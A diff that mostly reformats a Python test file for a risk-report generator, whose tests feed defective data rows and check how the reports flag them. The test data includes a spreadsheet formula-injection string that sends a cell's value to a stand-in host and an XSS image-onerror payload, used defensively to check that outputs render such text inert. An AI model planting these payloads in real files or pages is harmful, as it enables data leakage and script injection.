@@ -1,6 +1,7 @@
 """A company whose every table carries defects builds its whole pack; each report lists the defects
 that touch it, and the KRIs equal a hand calculation that leaves out the defective rows as the
 README documents (section "What the KRIs leave out")."""
+
 from __future__ import annotations
 
 from pathlib import Path
@@ -20,26 +21,28 @@ SHOWN = ('=HYPERLINK("http://x/?"&A1,"open")', "<img src=x onerror=alert(1)>", "
 # whose only orders are in 2026Q2: it has no data in 2026Q3.
 DIRTY = {
     "orders": TINY["orders"]
-    + "O6,2026-08-10,C,u,100,r2,p2,10,10,10,completed,false\n"     # row 11: exact duplicate of O6
-    + "O10,2026-08-12,Z,u,50,r2,p1,,,,completed,\n"                # row 12: unknown customer Z (a real sale)
-    + "O11,2026-09-01,A,u,-40,r1,p1,,,,completed,\n"               # row 13: negative on a completed line
-    + "O12,2027-03-01,A,u,75,r1,p1,,,,completed,\n"                # row 14: future-dated
-    + "O13,2026-08-20,C,u,1e15,r2,p1,2,50,50,completed,\n"         # row 15: 1e15 where 2 × 50 = 100
-    + "O3,2026-05-10,B,u,500,r4,p1,,,,completed,\n"                # row 16: duplicate of O3, in 2026Q2
-    + "O15,,A,u,30,r1,p1,,,,completed,\n"                          # row 17: no order date
-    + "O16,2026-08-01,A,,70,r1,p1,,,,completed,\n"                 # row 18: no unit
-    + "V1,2026-05-03,E,v,400,r2,p1,,,,completed,\n"                # unit v: orders in 2026Q2 only
+    + "O6,2026-08-10,C,u,100,r2,p2,10,10,10,completed,false\n"  # row 11: exact duplicate of O6
+    + "O10,2026-08-12,Z,u,50,r2,p1,,,,completed,\n"  # row 12: unknown customer Z (a real sale)
+    + "O11,2026-09-01,A,u,-40,r1,p1,,,,completed,\n"  # row 13: negative on a completed line
+    + "O12,2027-03-01,A,u,75,r1,p1,,,,completed,\n"  # row 14: future-dated
+    + "O13,2026-08-20,C,u,1e15,r2,p1,2,50,50,completed,\n"  # row 15: 1e15 where 2 × 50 = 100
+    + "O3,2026-05-10,B,u,500,r4,p1,,,,completed,\n"  # row 16: duplicate of O3, in 2026Q2
+    + "O15,,A,u,30,r1,p1,,,,completed,\n"  # row 17: no order date
+    + "O16,2026-08-01,A,,70,r1,p1,,,,completed,\n"  # row 18: no unit
+    + "V1,2026-05-03,E,v,400,r2,p1,,,,completed,\n"  # unit v: orders in 2026Q2 only
     + "V2,2026-06-03,E,v,300,r2,p1,,,,completed,\n",
-    "customers": TINY["customers"].replace("Alpha Ltd", HOSTILE[0]).replace("Gamma Inc", HOSTILE[1])
+    "customers": TINY["customers"]
+    .replace("Alpha Ltd", HOSTILE[0])
+    .replace("Gamma Inc", HOSTILE[1])
     .replace("Delta LLC", HOSTILE[2])
-    + "E,,v,\n",                                                   # row 6: no customer name
+    + "E,,v,\n",  # row 6: no customer name
     "reps": TINY["reps"] + "r6,Rep Six,u,2026-08-01,2026-07-15,100\n",  # row 6: left before being hired
     "invoices": TINY["invoices"]
-    + "i6,C,u,2026-09-05,,400,false\n"                             # row 7: no due date
-    + "i2,C,u,2026-08-01,2026-08-31,500,false\n",                  # row 8: exact duplicate of i2
-    "payments": TINY["payments"] + "i404,2026-09-10,300\n",        # row 5: no such invoice
+    + "i6,C,u,2026-09-05,,400,false\n"  # row 7: no due date
+    + "i2,C,u,2026-08-01,2026-08-31,500,false\n",  # row 8: exact duplicate of i2
+    "payments": TINY["payments"] + "i404,2026-09-10,300\n",  # row 5: no such invoice
     "opportunities": TINY["opportunities"] + "o7,u,,open,5000,,\n",  # row 8: a prospect without created date
-    "inventory": TINY["inventory"] + "2026-09-30,p1,0,u,5\n",      # row 10: exact duplicate
+    "inventory": TINY["inventory"] + "2026-09-30,p1,0,u,5\n",  # row 10: exact duplicate
     "incidents": TINY["incidents"] + "n5,u,2026-09-09,other,7\n",  # row 6: severity 7 on a 1-5 scale
 }
 
@@ -54,8 +57,15 @@ def pack(tmp_path_factory) -> Path:
 
 
 def issue(doc: dict, check: str, table: str, column: str | None = None) -> dict:
-    found = [i for i in doc["data_quality"]["issues"] if (i["check"], i["table"], i["column"]) == (check, table, column)]
-    assert len(found) == 1, (check, table, column, [(i["check"], i["table"], i["column"]) for i in doc["data_quality"]["issues"]])
+    found = [
+        i for i in doc["data_quality"]["issues"] if (i["check"], i["table"], i["column"]) == (check, table, column)
+    ]
+    assert len(found) == 1, (
+        check,
+        table,
+        column,
+        [(i["check"], i["table"], i["column"]) for i in doc["data_quality"]["issues"]],
+    )
     return found[0]
 
 
@@ -130,8 +140,10 @@ def test_data_quality_kris_agree_with_the_reports_line(pack: Path) -> None:
 def test_a_unit_without_orders_in_the_period_is_no_data(pack: Path) -> None:
     doc = read_results(pack / "v" / "results.json")
     assert doc["status"] == "no data"
-    assert doc["note"] == "No data for 2026Q3: the unit has no order lines in the period (its last order line " \
-                          "is dated 2026-06-03). No KRI is computed."
+    assert (
+        doc["note"] == "No data for 2026Q3: the unit has no order lines in the period (its last order line "
+        "is dated 2026-06-03). No KRI is computed."
+    )
     assert all(k["status"] == "n/a" and k["value"] is None for k in doc["kris"])
     assert not [r for r in doc["risks"] if r["movement"] != "closed" and r.get("source") != "analyst"]
     index = (pack / "index.html").read_text(encoding="utf-8")
@@ -143,6 +155,7 @@ def test_text_from_data_is_inert_in_every_output(pack: Path) -> None:
     import zipfile
 
     from openpyxl import load_workbook
+
     book = pack / "u" / "u_2026Q3_risk_register.xlsx"
     with zipfile.ZipFile(book) as z:
         sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
@@ -153,23 +166,31 @@ def test_text_from_data_is_inert_in_every_output(pack: Path) -> None:
     assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r")) or (t.startswith("-") and t != "-")]
     page = (pack / "u" / "01_identification.html").read_text(encoding="utf-8")
     assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<img src=x onerror" not in page
-    pdf = subprocess.run(["pdftotext", str(pack / "u" / "u_2026Q3_risk_report.pdf"), "-"], capture_output=True,
-                         text=True, check=True).stdout
+    pdf = subprocess.run(
+        ["pdftotext", str(pack / "u" / "u_2026Q3_risk_report.pdf"), "-"], capture_output=True, text=True, check=True
+    ).stdout
     assert SHOWN[1] in pdf  # printed as the text it is
 
 
 def test_the_group_report_names_the_unit_without_data(pack: Path) -> None:
     import subprocess
-    pdf = subprocess.run(["pdftotext", str(pack / "group" / "group_2026Q3_risk_report.pdf"), "-"],
-                         capture_output=True, text=True, check=True).stdout
+
+    pdf = subprocess.run(
+        ["pdftotext", str(pack / "group" / "group_2026Q3_risk_report.pdf"), "-"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
     assert "No data for 2026Q3 (no order lines in the period, no KRI computed): v" in " ".join(pdf.split())
-    summary = subprocess.run(["pdftotext", str(pack / "v" / "v_2026Q3_risk_report.pdf"), "-"],
-                             capture_output=True, text=True, check=True).stdout
+    summary = subprocess.run(
+        ["pdftotext", str(pack / "v" / "v_2026Q3_risk_report.pdf"), "-"], capture_output=True, text=True, check=True
+    ).stdout
     assert "No data for 2026Q3: the unit has no order lines in the period" in " ".join(summary.split())
 
 
 def test_the_workbook_lists_the_findings_one_per_row(pack: Path) -> None:
     from openpyxl import load_workbook
+
     ws = load_workbook(pack / "u" / "u_2026Q3_risk_register.xlsx")["Data quality"]
     rows = list(ws.iter_rows(values_only=True))
     head = list(rows[0])
@@ -177,7 +198,15 @@ def test_the_workbook_lists_the_findings_one_per_row(pack: Path) -> None:
     assert head[:9] == ["when", "period", "severity", "check", "table", "file", "row", "key", "column"]
     assert got[0]["when"] == "period" and got[0]["severity"] == "error"  # this period's errors first
     neg = [r for r in got if r["check"] == "negative_amount"]
-    assert [(r["table"], r["row"], r["key"], r["value"], r["excluded"]) for r in neg] == \
-        [("orders", 13, "O11 / p1", "'-40", "value")]  # a leading minus is shown as text, not a formula
-    assert {r["check"] for r in got} >= {"duplicate_row", "unknown_id", "future_date", "amount_mismatch",
-                                         "missing_value", "date_order", "invalid_value"}
+    assert [(r["table"], r["row"], r["key"], r["value"], r["excluded"]) for r in neg] == [
+        ("orders", 13, "O11 / p1", "'-40", "value")
+    ]  # a leading minus is shown as text, not a formula
+    assert {r["check"] for r in got} >= {
+        "duplicate_row",
+        "unknown_id",
+        "future_date",
+        "amount_mismatch",
+        "missing_value",
+        "date_order",
+        "invalid_value",
+    }
